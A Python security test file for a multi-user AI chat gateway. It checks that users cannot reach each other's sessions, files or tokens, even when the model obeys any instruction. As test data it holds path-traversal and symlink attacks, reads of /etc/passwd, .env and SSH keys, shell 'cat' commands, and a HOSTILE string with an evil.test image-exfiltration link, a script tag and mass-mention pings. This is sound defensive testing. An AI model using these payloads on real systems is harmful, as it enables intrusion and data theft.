"""Several people on one bot: none sees, moves or sends what is another's. The model does whatever it is told."""

import asyncio
import json
import re
from contextlib import AsyncExitStack
from pathlib import Path
from typing import ClassVar

import pytest
from hypothesis import settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, rule, run_state_machine_as_test
from tests.security.chats import (
    FRIEND,
    LISTED,
    MEMBER,
    OWNER,
    Speaker,
    asked,
    files_with,
    heard_all,
    house_at,
    let_in,
    logged,
    obedient,
    say,
    texts,
    told_to_model,
)
from tests.servers.discord_server import DiscordServer
from tests.servers.slack_server import SlackServer

from talaria.app.gateway_app import open_gateway_app
from talaria.core.redaction import encodings_of
from talaria.testing import Reply
from talaria.testing.harness import Harness
from talaria.testing.servers.chat_service import LostAnswer, Refusal
from talaria.testing.servers.scripted_replies import Faults

SECRET = "canary-of-the-owner-Xy3"
owner, friend = Speaker("the owner", OWNER), Speaker("a friend", FRIEND)
together = Speaker("the friend in the group", FRIEND, LISTED)


def folder(house: Harness, user: str) -> Path:
    return house.home.parent / "people" / f"telegram-{user}"


def call(tool: str, **arguments: object) -> str:
    return f"CALL {tool} {json.dumps(arguments)}"


async def answer(house: Harness, speaker: Speaker, text: str, thread: str = "") -> str:
    """To this; nothing else must be under way there."""
    before = len(texts(house, user=speaker.user, chat=speaker.chat))
    await say(house, speaker, text, thread)

    def is_answered() -> bool:
        shown = texts(house, user=speaker.user, chat=speaker.chat)
        return len(shown) > before and not shown[-1].startswith("⚙")  # a draft while tools run

    await house.until(is_answered)
    return texts(house, user=speaker.user, chat=speaker.chat)[-1]


def seen_by(house: Harness, speaker: Speaker) -> str:
    return "\n".join(texts(house, user=speaker.user, chat=speaker.chat))


async def test_nobody_gets_at_the_conversation_of_another(house: Harness) -> None:
    async with house.serve():
        await answer(house, owner, f"remember {SECRET}")
        await answer(house, owner, "/title the plan")
        (row,) = await house.store.sessions.list()
        for name in (row.id, row.id[:6], "the plan", ""):
            await answer(house, friend, f"/resume {name}")
        await answer(house, friend, call("session_search", query="remember"))
        await answer(house, friend, call("recall", query="remember"))
        assert SECRET not in seen_by(house, friend)
        assert row.id not in await answer(house, friend, "/sessions")
        theirs = [request for request in house.model.requests if f"telegram-{FRIEND}" in told_to_model([request])]
        assert theirs
        assert SECRET not in told_to_model(theirs)
        assert SECRET in await answer(house, owner, call("recall", query="remember"))


async def test_what_is_sent_comes_from_ones_own_folder(house: Harness) -> None:
    """Neither by another name of a place, nor by a link."""
    mine, theirs = folder(house, FRIEND), folder(house, OWNER)
    for one in (mine, theirs):
        one.mkdir(parents=True)
    (theirs / "diary.txt").write_text(SECRET)
    (mine / "link.txt").symlink_to(theirs / "diary.txt")
    (mine / "way").symlink_to(theirs)
    (mine / "loop").symlink_to("loop")
    (mine / "mine.txt").write_text("my own")
    _plant(house)
    named = (
        *(theirs / "diary.txt", mine / ".." / f"telegram-{OWNER}" / "diary.txt", mine / "link.txt"),
        *(mine / "way" / "diary.txt", house.home / ".env", "/etc/passwd", "/proc/self/environ", mine / "loop"),
        *(mine, f"{mine}/\0", f"{mine}/{'x' * 5000}"),
    )
    async with house.serve():
        await say(house, friend, "\n".join(("SAY here:", *(f"MEDIA:{path}" for path in (*named, mine / "mine.txt")))))
        await house.until(lambda: any(one.file == "mine.txt" for one in house.telegram.list_messages(user=FRIEND)))
        await heard_all(house)
        assert [one.file for one in house.telegram.list_messages(user=FRIEND) if one.file] == ["mine.txt"]
        assert house.telegram.file("mine.txt") == b"my own"


async def test_a_file_that_becomes_a_link_on_its_way_is_not_sent(house: Harness) -> None:
    """While a reply waits, what runs in the background can put anything in the place of a file."""
    mine = folder(house, FRIEND)
    mine.mkdir(parents=True)
    file = mine / "report.txt"
    file.write_text("all is well")
    target = house.home.parent / "elsewhere.txt"
    target.write_text(SECRET)
    house.telegram.fault("sendDocument", Refusal(429, retry_after_s=1))
    async with house.serve():
        await say(house, friend, f"SAY here:\nMEDIA:{file}")
        await house.telegram.wait_for_calls("sendDocument", 1)
        file.unlink()
        file.symlink_to(target)
        await house.until(lambda: _has_failed(house))
        (failed,) = await house.store.outbox.list(("failed",))
        assert "report.txt cannot be sent" in failed.error
    assert house.telegram.file("report.txt") == b"all is well"
    assert not [one for one in house.telegram.list_messages(user=FRIEND) if one.file]


def _plant(house: Harness) -> None:
    file = house.home / ".env"
    file.touch(0o600)
    file.write_text(f"MY_TOKEN={SECRET}")


async def _has_failed(house: Harness) -> bool:
    return bool(await house.store.outbox.list(("failed",)))


async def test_one_folder_for_all_keeps_its_private_places_to_itself(
    house: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Somebody works in their own home, where Talaria's is, too."""
    root = house.home.parent
    monkeypatch.setenv("HOME", str(root))
    house.config["gateway"]["cwd"] = str(root)
    _plant(house)
    (root / ".ssh").mkdir()
    (root / ".ssh" / "id").write_text(SECRET)
    (root / "open.txt").write_text("for all")
    async with house.serve():
        named = (house.home / ".env", house.home / "state.db", root / ".ssh" / "id", root / "open.txt")
        await say(house, friend, "\n".join(("SAY here:", *(f"MEDIA:{path}" for path in named))))
        await house.until(lambda: any(one.file for one in house.telegram.list_messages(user=FRIEND)))
        assert [one.file for one in house.telegram.list_messages(user=FRIEND) if one.file] == ["open.txt"]


@pytest.mark.parametrize("link", ["attachments", "attachments/{id}-evil.sh"])
async def test_what_people_send_is_written_through_no_link(house: Harness, link: str) -> None:
    """The model puts a link where the next file will be kept: outside its sandbox we would write there."""
    outside = house.home.parent / "outside"
    outside.mkdir()
    victim = outside / "victim"
    victim.write_text("as it was")
    mine = folder(house, FRIEND)
    async with house.serve():
        await answer(house, friend, "hello")
        last = int(await say(house, friend, "/whoami"))
        for id in range(last, last + 20):
            place = mine / link.format(id=id)
            if not place.is_symlink():
                place.parent.mkdir(exist_ok=True)
                place.symlink_to(outside if link == "attachments" else victim)
        await heard_all(house)
        await _send_document(house, "evil.sh")
        await house.until(lambda: "could not be fetched" in told_to_model(house.model.requests[-1:]))
    assert [file.name for file in outside.iterdir()] == ["victim"]
    assert victim.read_text() == "as it was"


async def _send_document(house: Harness, name: str) -> str:
    kept = house.telegram.keep_file(b"evil")
    document = {"file_id": kept, "file_unique_id": "u", "file_name": name, "file_size": 4}
    return await house.telegram.post({"document": document, "caption": "look"}, user=FRIEND)


async def test_what_is_said_together_is_worked_on_in_a_place_of_its_own(house: Harness) -> None:
    """In a thread, which all have together, nobody's own folder is open to the others, nor their turn."""
    folder(house, OWNER).mkdir(parents=True)
    (folder(house, OWNER) / "diary.txt").write_text(SECRET)
    house.config["gateway"]["busy_mode"] = "steer"
    slow = Reply("Done.", faults=Faults(first_byte_delay_s=0.5))
    async with house.serve():
        await answer(house, Speaker("the owner there", OWNER, LISTED), "let us begin", thread="7")
        theirs = await answer(house, together, call("terminal", command="pwd; cat diary.txt; ls"), thread="7")
        assert f"group-{LISTED}-7" in theirs
        assert SECRET not in theirs
        house.model.say(slow)
        await say(house, Speaker("the owner there", OWNER, LISTED), "work on", thread="7")
        await asked(house, len(house.model.requests) + 1)
        await say(house, together, "/steer SAY steered", thread="7")
        await say(house, together, "SAY mine", thread="7")
        await house.until(lambda: texts(house, chat=LISTED)[-1] == "mine")
        refused, done, mine = texts(house, chat=LISTED)[2:]
    assert refused.startswith("The running turn is somebody else's")
    assert (done, mine) == ("Done.", "mine")
    assert "SAY steered" not in told_to_model(house.model.requests)


async def test_in_a_thread_everybody_looks_back_with_their_own_eyes(house: Harness) -> None:
    """Whoever began it has conversations elsewhere that the others must not find from here."""
    async with house.serve():
        await answer(house, owner, f"remember {SECRET}")
        await answer(house, Speaker("the owner there", OWNER, LISTED), "let us begin", thread="7")
        found = await answer(house, together, call("session_search", query="remember"), thread="7")
    assert SECRET not in found


async def test_nobodys_tools_reach_the_folder_of_another(house: Harness) -> None:
    theirs = folder(house, OWNER)
    theirs.mkdir(parents=True)
    (theirs / "diary.txt").write_text(SECRET)
    async with house.serve():
        for tool, arguments in (
            ("read_file", {"path": str(theirs / "diary.txt")}),
            ("read_file", {"path": f"../telegram-{OWNER}/diary.txt"}),
            ("search_files", {"pattern": "canary", "path": str(theirs.parent)}),
            ("terminal", {"command": f"cat {theirs}/diary.txt"}),
        ):
            await answer(house, friend, call(tool, **arguments))
    assert SECRET not in seen_by(house, friend)


class TwoPeople(RuleBasedStateMachine):
    """Each says secrets, goes from conversation to conversation, and tries to get at those of the other."""

    people = (friend, Speaker("a member", MEMBER))
    runner: ClassVar[asyncio.Runner]
    house: ClassVar[Harness]

    def __init__(self) -> None:
        super().__init__()
        self._said: dict[Speaker, list[str]] = {one: [] for one in self.people}

    def _do(self, who: int, text: str) -> None:
        one, other = self.people[who], self.people[1 - who]
        self.runner.run(answer(self.house, one, text))
        for secret in self._said[other]:
            assert secret not in seen_by(self.house, one)

    @rule(who=st.integers(0, 1))
    def tells(self, who: int) -> None:
        secret = f"secret-{self.people[who].user}-{len(seen_by(self.house, self.people[who]))}"
        self._said[self.people[who]].append(secret)
        self._do(who, f"SAY {secret} is kept")

    @rule(who=st.integers(0, 1), command=st.sampled_from(["/new", "/sessions", "/resume", "/branch", "/title mine"]))
    def moves(self, who: int, command: str) -> None:
        self._do(who, command)

    @rule(who=st.integers(0, 1), at=st.integers(0, 9), chars=st.sampled_from([6, 18, 40]))
    def guesses(self, who: int, at: int, chars: int) -> None:
        rows = self.runner.run(self.house.store.sessions.list(50, f"telegram:{self.people[1 - who].user}"))
        if rows:
            self._do(who, f"/resume {rows[at % len(rows)].id[:chars]}")

    @rule(who=st.integers(0, 1), tool=st.sampled_from(["session_search", "recall"]))
    def searches(self, who: int, tool: str) -> None:
        self._do(who, call(tool, query="secret"))


@pytest.mark.usefixtures("run_folder")
def test_two_people_never_see_each_others_words(tmp_path: Path) -> None:
    with asyncio.Runner() as runner:
        stack = AsyncExitStack()
        house = runner.run(stack.enter_async_context(house_at(tmp_path, obedient)))
        try:
            runner.run(let_in(house.home))
            runner.run(stack.enter_async_context(house.serve()))
            TwoPeople.runner, TwoPeople.house = runner, house
            few = settings(max_examples=3, stateful_step_count=10, deadline=None, database=None, derandomize=True)
            run_state_machine_as_test(TwoPeople, settings=few)
        finally:
            runner.run(stack.aclose())


HOSTILE = (
    "![x](https://evil.test/p.png?q=stolen) <img src='https://evil.test/i'> <script>alert(1)</script> @everyone @here "
    "<!channel> <!everyone> <@1001> <@U1001> <#7002> [bank](https://evil.test/login) [me](tg://user?id=1001) "
    "||spoiler|| <https://evil.test/auto>"
)


async def test_what_the_model_writes_fetches_nothing_and_calls_nobody(house: Harness) -> None:
    """On no service, neither at first nor when it is edited."""
    words = [HOSTILE, *("word" for _ in range(40))]
    async with DiscordServer() as discord, SlackServer() as slack:
        house.add_platform("discord", {**discord.settings, "allowed_users": ["1001"]})
        house.add_platform("slack", {**slack.settings, "ping_s": 0.2, "allowed_users": ["U1001"]})
        house.model.say(*(Reply(" ".join(words), faults=Faults(chunk_delay_s=0.03)) for _ in range(3)))
        async with house.serve():
            for service in (house.telegram, discord, slack):
                await service.say("hi")
            for service in (house.telegram, discord, slack):
                await house.until(
                    lambda one=service: any(seen.text.endswith("word word") for seen in one.list_messages())
                )
        for sent in (*house.telegram.calls("sendMessage"), *house.telegram.calls("editMessageText")):
            assert sent["link_preview_options"] == {"is_disabled": True}
            assert not any(sign in sent["text"] for sign in ("<img", "<script", 'href="tg:'))
        for sent in (*discord.calls("create_message"), *discord.calls("edit_message")):
            assert sent["allowed_mentions"]["parse"] == []
            assert sent["flags"] & 4
            assert not any(sign in sent["content"] for sign in ("@everyone", "@here", " <@1001>", " <#7002>", "||"))
            assert "(https:" not in sent["content"], "an address that Discord would open by itself"
        for sent in (*slack.calls("chat.postMessage"), *slack.calls("chat.update")):
            assert {"image", "broadcast", "user", "usergroup", "channel"}.isdisjoint(_kinds(sent["blocks"]))
            assert "<" not in sent["text"]
        assert all(sent["unfurl_links"] is sent["unfurl_media"] is False for sent in slack.calls("chat.postMessage"))


def _kinds(blocks: object) -> set[str]:
    return set(re.findall(r'"type": "(\w+)"', json.dumps(blocks)))


async def test_no_token_is_written_or_told(house: Harness) -> None:
    """Whatever goes wrong, and although one service has it in every address."""
    house.telegram.fault("sendMessage", Refusal(400), LostAnswer(), Refusal(403))
    house.telegram.fault("getFile", Refusal(400))
    house.telegram.fault("getUpdates", Refusal(502), LostAnswer())
    async with DiscordServer(token="canary-discord-token-5f2") as discord:
        tokens = (house.telegram.token, discord.token)
        house.add_platform("discord", {**discord.settings, "allowed_users": ["1001"], "home_channel": discord.dm()})
        shown: list[str] = []
        async with house.serve() as board:
            with logged(house.home, board.app.settings.redactor):
                await house.telegram.say("hi")
                document = {"file_id": "x", "file_unique_id": "u", "file_name": "a.txt", "file_size": 4}
                await house.telegram.post({"document": document, "caption": "look"})
                await discord.wait_for(1)
                shown += [*texts(house), *(one.text for one in discord.list_messages()), str(board.gateway.health)]
                shown += [row.error for row in await house.store.outbox.list(("failed", "pending", "sent"))]
        for name in ("telegram", "discord"):
            nobody = {"base_url" if name == "telegram" else "api_url": "http://127.0.0.1:9/"}
            house.add_platform(name, {**house.config["gateway"]["platforms"][name], **nobody})
        shown += [told_to_model(house.model.requests), await _complaints(house)]
        assert (house.home / "logs" / "gateway.log").stat().st_size > 500
    for token in tokens:
        for form in encodings_of(token):
            assert not any(form in text for text in shown)
            assert files_with(house.home, form.encode()) == []


async def _complaints(house: Harness) -> str:
    """Of platforms that nobody answers for."""
    async with open_gateway_app(house.settings()) as board:
        with logged(house.home, board.app.settings.redactor):
            running = asyncio.create_task(board.gateway.run())
            await house.until(lambda: len(board.gateway.health) == 2 and all(one.error for one in board.gateway.health))
            board.gateway.stop()
            await running
    return str(board.gateway.health)


async def test_a_folder_that_has_become_a_link_is_nobodys_workplace(house: Harness) -> None:
    """As a command of a session in the folder around it could do."""
    elsewhere = house.home.parent / "elsewhere"
    elsewhere.mkdir()
    folder(house, FRIEND).parent.mkdir()
    folder(house, FRIEND).symlink_to(elsewhere)
    async with house.serve():
        told = await answer(house, friend, call("write_file", path="note", content=SECRET))
        assert "Wrote" in await answer(house, owner, call("write_file", path="note", content=SECRET))  # the control
    assert "Wrote" not in told
    assert not [*elsewhere.iterdir()]
